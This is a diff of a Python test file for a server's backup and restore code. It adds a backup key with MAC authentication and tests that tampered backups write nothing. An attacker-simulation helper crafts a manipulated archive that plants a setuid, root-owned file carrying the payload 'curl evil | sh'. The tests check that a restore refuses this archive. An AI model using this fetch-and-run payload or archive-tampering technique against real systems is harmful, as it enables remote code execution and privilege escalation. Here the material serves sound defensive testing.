@@ -7,6 +7,7 @@ from __future__ import annotations
 import asyncio
 import hashlib
 import json
+import shutil
 import sqlite3
 import zipfile
 from datetime import UTC, datetime
@@ -14,9 +15,12 @@ from pathlib import Path
 
 import pytest
 
+from gateway_ops.backupfile import BACKUP_MAC, BackupKey, write_manifest
 from security_server.backup import BackupError, backup, restore
 
 NOW = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
+# the operator's backup key, kept apart from the server's files
+KEY = BackupKey(b"k" * 32, Path("/nonexistent/backup.key"))
 
 
 def make_server(root: Path) -> Path:
@@ -69,7 +73,7 @@ def write_log(path: Path, records: int) -> None:
 
 
 def take(config: Path, out: Path) -> None:
-    asyncio.run(backup(config, out, now=NOW))
+    asyncio.run(backup(config, out, key=KEY, now=NOW))
 
 
 def test_a_backup_holds_settings_keys_state_and_a_log_copy_but_not_archives(
@@ -105,7 +109,7 @@ def test_restore_puts_back_what_is_missing_with_its_mode(tmp_path: Path) -> None
     key = tmp_path / "server" / "keys" / "auth.key"
     key.unlink()
     (tmp_path / "server" / "state" / "messagelog.db").unlink()
-    summary = restore(tmp_path / "backup.zip")
+    summary = restore(tmp_path / "backup.zip", key=KEY)
     assert summary.written == 2 and summary.log == "restored"
     assert key.read_bytes() == b"content of auth.key" and key.stat().st_mode & 0o777 == 0o600
 
@@ -123,7 +127,7 @@ def test_a_damaged_backup_restores_nothing(tmp_path: Path) -> None:
     key = tmp_path / "server" / "keys" / "auth.key"
     key.unlink()
     with pytest.raises(BackupError, match="does not match its SHA-256: the backup is damaged"):
-        restore(damaged)
+        restore(damaged, key=KEY)
     assert not key.exists()
 
 
@@ -134,9 +138,9 @@ def test_restore_refuses_to_replace_other_content_unless_forced(tmp_path: Path) 
     key.write_bytes(b"a newer key")
     (tmp_path / "server" / "keys" / "anchor.json").unlink()
     with pytest.raises(BackupError, match=r"sign\.key: exists with other content"):
-        restore(tmp_path / "backup.zip")
+        restore(tmp_path / "backup.zip", key=KEY)
     assert not (tmp_path / "server" / "keys" / "anchor.json").exists()  # nothing written
-    restore(tmp_path / "backup.zip", force=True)
+    restore(tmp_path / "backup.zip", key=KEY, force=True)
     assert key.read_bytes() == b"content of sign.key"
 
 
@@ -148,20 +152,20 @@ def test_restore_keeps_a_newer_log_and_newer_caches_and_refuses_an_older_log(
     state = tmp_path / "server" / "state"
     (state / "ocsp" / "answer.der").write_bytes(b"a fresher answer")
     write_log(state / "messagelog.db", 5)
-    summary = restore(tmp_path / "backup.zip")
+    summary = restore(tmp_path / "backup.zip", key=KEY)
     assert (summary.written, summary.log) == (0, "kept")
     assert (state / "ocsp" / "answer.der").read_bytes() == b"a fresher answer"
 
     write_log(state / "messagelog.db", 2)  # a log reset behind the backup's head
     with pytest.raises(BackupError, match="ends before the backup's"):
-        restore(tmp_path / "backup.zip")
+        restore(tmp_path / "backup.zip", key=KEY)
 
 
 def test_a_backup_naming_a_path_outside_the_servers_files_restores_nothing(
     tmp_path: Path,
 ) -> None:
-    """A backup kept apart could be edited: a manifest entry naming any other path (here a
-    shell profile, setuid) is refused before anything is written."""
+    """Even a manifest the key authenticates (made by whoever holds the key) cannot name any
+    other path (here a shell profile, setuid): it is refused before anything is written."""
     config = make_server(tmp_path / "server")
     take(config, tmp_path / "backup.zip")
     target = tmp_path / "elsewhere" / ".profile"
@@ -170,7 +174,7 @@ def test_a_backup_naming_a_path_outside_the_servers_files_restores_nothing(
     with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(edited, "w") as dst:
         manifest = json.loads(src.read("manifest.json"))
         for item in src.infolist():
-            if item.filename != "manifest.json":
+            if item.filename not in ("manifest.json", BACKUP_MAC):
                 dst.writestr(item, src.read(item))
         dst.writestr("files/9999/.profile", payload)
         manifest["files"].append(
@@ -183,10 +187,10 @@ def test_a_backup_naming_a_path_outside_the_servers_files_restores_nothing(
                 "cache": False,
             }
         )
-        dst.writestr("manifest.json", json.dumps(manifest))
+        write_manifest(dst, manifest, KEY)
     (tmp_path / "server" / "keys" / "auth.key").unlink()
     with pytest.raises(BackupError, match="neither its settings file"):
-        restore(edited)
+        restore(edited, key=KEY)
     assert not target.exists()
     assert not (tmp_path / "server" / "keys" / "auth.key").exists()
 
@@ -202,4 +206,145 @@ def test_a_log_with_another_history_is_not_kept_silently(tmp_path: Path) -> None
     db.commit()
     db.close()
     with pytest.raises(BackupError, match="another history"):
-        restore(tmp_path / "backup.zip")
+        restore(tmp_path / "backup.zip", key=KEY)
+
+
+# ---- the backup key: an edited backup writes nothing -------------------------------------
+
+
+def edited_to_write_elsewhere(backup_zip: Path, out: Path, victim: Path) -> bytes:
+    """What an attacker who can change a stored backup (not read the key) makes of it: the
+    settings inside point the state folder at `victim`, a file is added there (setuid, owned
+    by root), the old state folder's files are left out, and every SHA-256 of the manifest
+    is made to match. Returns the payload."""
+    payload = b"curl evil | sh\n"
+    with zipfile.ZipFile(backup_zip) as src, zipfile.ZipFile(out, "w") as dst:
+        manifest = json.loads(src.read("manifest.json"))
+        settings = next(f for f in manifest["files"] if f["path"] == manifest["settings"])
+        text = src.read(settings["name"]).decode()
+        state = text.split('state_dir = "', 1)[1].split('"', 1)[0]
+        text = text.replace(f'state_dir = "{state}"', f'state_dir = "{victim}"')
+        settings.update(size=len(text), sha256=hashlib.sha256(text.encode()).hexdigest())
+        manifest["files"] = [
+            f
+            for f in manifest["files"]
+            if f["name"] == "log/messagelog.db" or Path(state) not in Path(f["path"]).parents
+        ]
+        for entry in manifest["files"]:
+            data = src.read(entry["name"])
+            dst.writestr(entry["name"], text.encode() if entry is settings else data)
+        dst.writestr("files/9999/profile", payload)
+        manifest["files"].append(
+            {
+                "name": "files/9999/profile",
+                "path": str(victim / "profile"),
+                "size": len(payload),
+                "mode": 0o4755,
+                "uid": 0,
+                "gid": 0,
+                "sha256": hashlib.sha256(payload).hexdigest(),
+                "cache": False,
+            }
+        )
+        dst.writestr("manifest.json", json.dumps(manifest))
+    return payload
+
+
+def test_an_edited_backup_without_its_mac_writes_nothing(tmp_path: Path) -> None:
+    """Finding 19 of the red-team review: the settings inside a backup decide where a
+    restore writes. An edited backup (here without the MAC file) is refused before anything
+    is read from it: the state folder it names is left alone, and nothing of the server's is
+    written either."""
+    config = make_server(tmp_path / "server")
+    take(config, tmp_path / "backup.zip")
+    victim = tmp_path / "victim"
+    edited_to_write_elsewhere(tmp_path / "backup.zip", tmp_path / "edited.zip", victim)
+    shutil.rmtree(tmp_path / "server")  # the machine was lost: the restore writes it all
+    with pytest.raises(BackupError, match="is not authenticated"):
+        restore(tmp_path / "edited.zip", key=KEY)
+    assert not victim.exists()
+    assert not (tmp_path / "server").exists()
+
+
+@pytest.mark.parametrize("claims", ["the operator's key", "the attacker's key"])
+def test_an_edited_backup_with_a_mac_under_another_key_writes_nothing(
+    tmp_path: Path, claims: str
+) -> None:
+    """The attacker signs the edited manifest with a key of their own, naming either the
+    operator's key (the MAC does not match) or their own (another key made it)."""
+    config = make_server(tmp_path / "server")
+    take(config, tmp_path / "backup.zip")
+    victim = tmp_path / "victim"
+    plain = tmp_path / "plain.zip"
+    edited_to_write_elsewhere(tmp_path / "backup.zip", plain, victim)
+    theirs = BackupKey(b"a" * 32, tmp_path / "theirs.key")
+    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(tmp_path / "edited.zip", "w") as dst:
+        for item in src.infolist():
+            if item.filename != "manifest.json":
+                dst.writestr(item, src.read(item))
+        manifest = json.loads(src.read("manifest.json"))
+        if claims == "the operator's key":
+            data = json.dumps(manifest, indent=2, sort_keys=True).encode()
+            dst.writestr("manifest.json", data)
+            dst.writestr(BACKUP_MAC, theirs.mac(data))
+        else:
+            write_manifest(dst, manifest, theirs)
+    expected = "does not match its MAC" if claims == "the operator's key" else "another backup key"
+    shutil.rmtree(tmp_path / "server")
+    with pytest.raises(BackupError, match=expected):
+        restore(tmp_path / "edited.zip", key=KEY)
+    assert not victim.exists()
+    assert not (tmp_path / "server").exists()
+
+
+def test_a_backup_from_before_backups_were_authenticated_is_refused(tmp_path: Path) -> None:
+    config = make_server(tmp_path / "server")
+    take(config, tmp_path / "backup.zip")
+    old = tmp_path / "old.zip"
+    with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(old, "w") as dst:
+        for item in src.infolist():
+            if item.filename != BACKUP_MAC:
+                dst.writestr(item, src.read(item))
+    (tmp_path / "server" / "keys" / "sign.key").unlink()
+    with pytest.raises(BackupError, match="taken before backups were, or was edited"):
+        restore(old, key=KEY)
+    assert not (tmp_path / "server" / "keys" / "sign.key").exists()
+
+
+def test_the_backup_key_is_never_inside_a_backup(tmp_path: Path) -> None:
+    config = make_server(tmp_path / "server")
+    inside = tmp_path / "server" / "state" / "backup.key"
+    inside.write_text("k" * 64)
+    with pytest.raises(BackupError, match="would be in the backup"):
+        asyncio.run(backup(config, tmp_path / "b.zip", key=BackupKey(b"k" * 32, inside), now=NOW))
+    assert not (tmp_path / "b.zip").exists()
+
+
+def test_a_log_swapped_in_the_zip_while_restoring_is_not_written(tmp_path: Path) -> None:
+    """The log is read from the zip a second time when it is written (it may be large): a
+    zip replaced between the check and the copy (same manifest, another log) leaves the
+    log's place empty rather than holding what no MAC covers."""
+    config = make_server(tmp_path / "server")
+    source = tmp_path / "backup.zip"
+    take(config, source)
+    swapped = tmp_path / "swapped.zip"
+    other = tmp_path / "other.db"
+    write_log(other, 9)
+    with zipfile.ZipFile(source) as src, zipfile.ZipFile(swapped, "w") as dst:
+        for item in src.infolist():
+            if item.filename == "log/messagelog.db":
+                dst.write(other, item.filename)
+            else:
+                dst.writestr(item, src.read(item))
+    state = tmp_path / "server" / "state"
+    (tmp_path / "server" / "keys" / "auth.key").unlink()
+    (state / "messagelog.db").unlink()
+
+    def swap(path: str) -> None:  # after the first file written, before the log
+        if swapped.exists():
+            swapped.replace(source)
+
+    with pytest.raises(BackupError, match="changed while it was restored"):
+        restore(source, key=KEY, progress=swap)
+    assert not (state / "messagelog.db").exists()
+    assert list(state.glob(".messagelog.db.*")) == []  # no temporary file left
